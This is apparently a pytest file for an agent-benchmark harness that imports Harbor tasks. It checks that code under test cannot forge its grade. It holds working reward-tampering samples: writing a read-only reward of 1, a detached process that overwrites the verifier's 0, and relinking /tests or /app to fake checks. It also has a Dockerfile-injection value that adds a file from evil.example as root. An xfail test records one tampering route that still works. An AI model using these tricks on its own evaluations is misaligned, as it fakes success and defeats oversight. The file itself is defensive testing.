"""Hostile Harbor tasks and hostile code under an imported task's tests: what the agent's code can do to the reward
file test.sh writes (bench/harbor/runner.py), through `import harbor` and a graded `run` with real bwrap."""
from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

import pytest
import tomllib
import yaml

from bench.exec import sandbox
from conftest import REPO, run_cli

bwrap_only = pytest.mark.skipif(sandbox.bwrap_works() is not None, reason="needs a working bubblewrap sandbox")

# Harbor's usual shape without pytest (so no pytest summary backs the reward): the reward alone is the verdict.
TEST_SH = """#!/bin/bash
if python3 -c 'import sys; sys.path.insert(0, "/app"); from greet import greet; assert greet("ada") == "hello, ada"'
then
  echo 1 > /logs/verifier/reward.txt
else
  echo 0 > /logs/verifier/reward.txt
fi
"""

# The code under test writes full credit first and makes the file read-only: test.sh's `echo 0 >` then fails
# (no capability in the sandbox overrides the mode), and the 1 stays.
READ_ONLY = '''import os
os.makedirs("/logs/verifier", exist_ok=True)
with open("/logs/verifier/reward.txt", "w") as f:
    f.write("1")
os.chmod("/logs/verifier/reward.txt", 0o444)


def greet(name):
    return "wrong"
'''

# A process left behind that waits for test.sh's 0, writes 1 over it and exits at once, before test.sh has ended:
# no process is left running when the harness looks.
QUICK = '''import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        path = "/logs/verifier/reward.txt"
        for _ in range(20_000_000):
            try:
                with open(path) as f:
                    if f.read().strip() == "0":
                        break
            except OSError:
                pass
        with open(path, "w") as f:
            f.write("1")
        os._exit(0)
    os._exit(0)


def greet(name):
    return "wrong"
'''


def harbor_task(root: Path, code: str, extra: dict[str, str] | None = None) -> Path:
    task = root / "forge"
    files = {
        "task.toml": '[task]\nname = "acme/forge"\n\n[verifier]\ntimeout_sec = 60.0\n\n[agent]\ntimeout_sec = 60.0\n',
        "instruction.md": "Make greet(name) in greet.py return 'hello, NAME'.\n",
        "environment/Dockerfile": "FROM python:3.12-slim\n\nWORKDIR /app\n\nCOPY greet.py /app/greet.py\n",
        "environment/greet.py": "def greet(name):\n    raise NotImplementedError\n",
        "tests/test.sh": TEST_SH,
        "solution/solve.sh": f"#!/bin/bash\ncat > /app/greet.py <<'EOF'\n{code}EOF\n",
        **(extra or {}),
    }
    for rel, text in files.items():
        (task / rel).parent.mkdir(parents=True, exist_ok=True)
        (task / rel).write_text(text)
    return task


def graded(tmp_path: Path, code: str, extra: dict[str, str] | None = None) -> tuple[dict, str]:
    suite = tmp_path / "suite"
    done = run_cli("import", "harbor", str(harbor_task(tmp_path / "in", code, extra)), "--out", str(suite / "tasks"))
    assert done.returncode == 0, done.stderr
    done = run_cli("run", "--agent", "oracle", "--sandbox", "bwrap", "--tasks", str(suite / "tasks"), "--task",
                   "forge", "--out", str(suite / "results"))
    assert "summary" in done.stdout, done.stderr
    run_dir = suite / "results" / "runs" / "forge" / "0"
    return json.loads((run_dir / "run.json").read_text()), (run_dir / "heldout.log").read_text()


@bwrap_only
def test_a_correct_solution_still_passes(tmp_path):
    run, log = graded(tmp_path, 'def greet(name):\n    return f"hello, {name}"\n')
    assert run["heldout"]["passed"] is True, log[-2000:]


@bwrap_only
@pytest.mark.parametrize("code, why", [(READ_ONLY, "test.sh exited 1"),
                                       (QUICK, "could have written the reward")],
                         ids=["read-only-reward", "quick-overwrite-then-exit"])
def test_code_under_test_cannot_keep_or_slip_in_full_credit(tmp_path, code, why):
    """Wrong code whose import forges the reward: a read-only reward.txt holding 1 that test.sh's `echo 0` cannot
    replace, or a detached process that writes 1 over test.sh's 0 and exits before test.sh ends."""
    run, log = graded(tmp_path, code)
    assert run["heldout"]["passed"] is False, log[-2000:]
    assert why in log, log[-2000:]


@pytest.mark.parametrize("toml, dockerfile, phrase", [
    ('environment = "x"\n', None, "environment = 'x': must be a table"),
    ('[metadata]\nlocalagentbench = "x"\n', None, "metadata.localagentbench = 'x': must be a table"),
    ("[task]\nname = 5\n", None, "[task].name = '5': must be a string"),
    ('[task]\nname = "t"\n', "FROM python:3.12\nWORKDIR /app\nCOPY greet.py /app/x\nCOPY greet.py /app/x/y\n",
     "/app/x is copied as a file and as the directory of /app/x/y"),
], ids=["environment-a-string", "our-table-a-string", "name-a-number", "file-and-directory"])
def test_a_malformed_task_is_refused_in_one_line_not_a_traceback(tmp_path, toml, dockerfile, phrase):
    """task.toml tables of the wrong type, and a Dockerfile copying a file where another COPY needs a directory,
    crashed the import with a traceback (AttributeError, FileExistsError) and left nothing to say which task."""
    task = harbor_task(tmp_path / "in", "")
    (task / "task.toml").write_text(toml)
    if dockerfile:
        (task / "environment" / "Dockerfile").write_text(dockerfile)
    done = run_cli("import", "harbor", str(task), "--out", str(tmp_path / "suite" / "tasks"), "--no-solution")
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert phrase in done.stderr and len(done.stderr.strip().splitlines()) == 1, done.stderr
    assert [p.name for p in (tmp_path / "suite").iterdir()] == [] if (tmp_path / "suite").exists() else True


@pytest.mark.parametrize("command", ["true\nUSER root\nADD https://evil.example/x /usr/bin/python3",
                                     "true\rUSER root", "echo a \\"], ids=["newline", "carriage-return", "backslash"])
def test_a_setup_command_cannot_write_dockerfile_instructions_on_export(tmp_path, command):
    """A task's setup command spanning lines became Dockerfile instructions of its own in the exported Harbor task
    (USER root, ADD of a URL after its RUN); a title spanning lines stays one TOML string."""
    suite = tmp_path / "s"
    (suite / "tasks").mkdir(parents=True)
    shutil.copytree(REPO / "fixtures" / "calib-add", suite / "fixtures" / "calib-add")
    task = yaml.safe_load((REPO / "tasks" / "calib-add.yaml").read_text())
    task.pop("solution")
    task["setup"] = {"command": [command]}
    task["title"] = 'x"\n[agent]\ntimeout_sec = 99999'
    (suite / "tasks" / "calib-add.yaml").write_text(yaml.safe_dump(task))
    done = run_cli("export", "harbor", str(suite / "tasks"), "--out", str(tmp_path / "h"))
    assert done.returncode == 2 and "spans lines" in done.stderr, done.stderr
    assert len(done.stderr.strip().splitlines()) == 1 and not (tmp_path / "h" / "calib-add").exists()
    task["setup"] = {"command": ["true && echo ok"]}
    (suite / "tasks" / "calib-add.yaml").write_text(yaml.safe_dump(task))
    done = run_cli("export", "harbor", str(suite / "tasks"), "--out", str(tmp_path / "h"))
    assert done.returncode == 0, done.stderr
    written = tmp_path / "h" / "calib-add"
    assert (written / "environment" / "Dockerfile").read_text().endswith("COPY app/ /app/\nRUN true && echo ok\n")
    toml = tomllib.loads((written / "task.toml").read_text())
    assert toml["task"]["description"] == task["title"] and toml["agent"]["timeout_sec"] == 600.0


# test.sh runs the code under test once (a smoke import), then a check of its own from /tests against /app.
TWO_STEP_TEST_SH = """#!/bin/bash
python3 -c 'import sys; sys.path.insert(0, "/app"); import greet'
if python3 /tests/check.py; then
  echo 1 > /logs/verifier/reward.txt
else
  echo 0 > /logs/verifier/reward.txt
fi
"""
CHECK_PY = 'import sys\nsys.path.insert(0, "/app")\nfrom greet import greet\nassert greet("ada") == "hello, ada"\n'
WRONG = '\n\ndef greet(name):\n    return "wrong"\n'
# /tests made a link to a check of the agent's own that always passes.
RELINK_TESTS = '''import os
if os.path.realpath("/tests") != "/tmp/fake":
    os.makedirs("/tmp/fake", exist_ok=True)
    open("/tmp/fake/check.py", "w").write("pass\\n")
    os.unlink("/tests")
    os.symlink("/tmp/fake", "/tests")
''' + WRONG
# The same, and the agent's check puts the real link back (the same inode) once it has run.
RENAME_AND_BACK = '''import os
if os.path.realpath("/tests") != "/tmp/fake":
    os.makedirs("/tmp/fake", exist_ok=True)
    open("/tmp/fake/check.py", "w").write("import os\\nos.rename('/saved-tests', '/tests')\\n")
    os.rename("/tests", "/saved-tests")
    os.symlink("/tmp/fake", "/tests")
''' + WRONG
# WORKDIR made a link to a tree holding a correct greet.py.
RELINK_WORKDIR = '''import os
if os.path.realpath("/app") != "/tmp/fake":
    os.makedirs("/tmp/fake", exist_ok=True)
    open("/tmp/fake/greet.py", "w").write("def greet(name):\\n    return 'hello, ' + name\\n")
    os.unlink("/app")
    os.symlink("/tmp/fake", "/app")
''' + WRONG


@bwrap_only
@pytest.mark.parametrize("code", [RELINK_TESTS, RENAME_AND_BACK, RELINK_WORKDIR],
                         ids=["relink-tests", "rename-tests-away-and-back", "relink-workdir"])
def test_code_under_test_cannot_repoint_tests_or_workdir(tmp_path, code, monkeypatch):
    """/tests and WORKDIR are links run.py makes on the sandbox's writable root: code under test that test.sh runs
    first repointed them, so test.sh's later check read the agent's check, or the agent's tree."""
    monkeypatch.setattr(sys.modules[__name__], "TEST_SH", TWO_STEP_TEST_SH)
    run, log = graded(tmp_path, code, extra={"tests/check.py": CHECK_PY})
    assert run["heldout"]["passed"] is False, log[-2000:]
    assert "was replaced while test.sh ran" in log, log[-2000:]


def test_a_file_swapped_for_a_link_after_the_scan_is_not_followed(tmp_path, monkeypatch):
    """The task directory is checked for links once (scan_task); the files were then copied with read_bytes(),
    which follows a link: a task file swapped for a link to a host file after the scan put that file in the
    fixture the agent reads."""
    from bench.harbor import importer

    secret = tmp_path / "host-secret"
    secret.write_text("host secret\n")
    task = harbor_task(tmp_path / "in", "")
    scan = importer.scan_task

    def scan_then_swap(task_dir):
        found = scan(task_dir)
        (task_dir / "environment" / "greet.py").unlink()
        (task_dir / "environment" / "greet.py").symlink_to(secret)
        return found

    monkeypatch.setattr(importer, "scan_task", scan_then_swap)
    with pytest.raises(importer.Refused, match="no longer a regular file"):
        importer.import_task(task, tmp_path / "suite" / "tasks", with_solution=False)
    assert not any("host secret" in p.read_text() for p in (tmp_path / "suite").rglob("*") if p.is_file())


ONLY_ON_SUCCESS_TEST_SH = """#!/bin/bash
if python3 -c 'import sys; sys.path.insert(0, "/app"); from greet import greet; assert greet("ada") == "hello, ada"'
then
  echo 1 > /logs/verifier/reward.txt
fi
"""
PRE_WRITE = '''import os
os.makedirs("/logs/verifier", exist_ok=True)
with open("/logs/verifier/reward.txt", "w") as f:
    f.write("1")
''' + WRONG


@bwrap_only
@pytest.mark.xfail(strict=True, reason="open: a test.sh that writes the reward only on success (Harbor reads a "
                                       "missing reward as 0) lets the code under test write 1 first; run.py cannot "
                                       "tell which process wrote the file")
def test_code_under_test_cannot_pre_write_a_reward_test_sh_only_writes_on_success(tmp_path, monkeypatch):
    monkeypatch.setattr(sys.modules[__name__], "TEST_SH", ONLY_ON_SUCCESS_TEST_SH)
    run, log = graded(tmp_path, PRE_WRITE)
    assert run["heldout"]["passed"] is False, log[-2000:]
